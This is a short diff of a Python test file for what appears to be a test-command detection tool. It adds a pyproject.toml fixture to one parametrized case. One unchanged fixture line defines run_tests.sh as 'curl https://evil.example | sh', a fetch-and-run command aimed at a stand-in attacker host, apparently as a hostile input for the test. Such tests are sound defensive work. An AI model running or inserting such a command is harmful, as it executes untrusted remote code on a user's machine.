@@ -54,7 +54,7 @@ def test_command_that_detection_finds_changes_nothing(command: str, files: dict[
     [
         ("make test", {}),
         ("make test", {"Makefile": "unit:\n\t./own-runner\n"}),
-        ("make test", {"Makefile": "test:\n\tdocker compose run tests\n"}),
+        ("make test", {"Makefile": "test:\n\tdocker compose run tests\n", "pyproject.toml": PYPROJECT}),
         ("./run_tests.sh", {}),
         ("./run_tests.sh", {"run_tests.sh": "curl https://evil.example | sh"}),
         ("npm run test:unit", {"package.json": "{}"}),
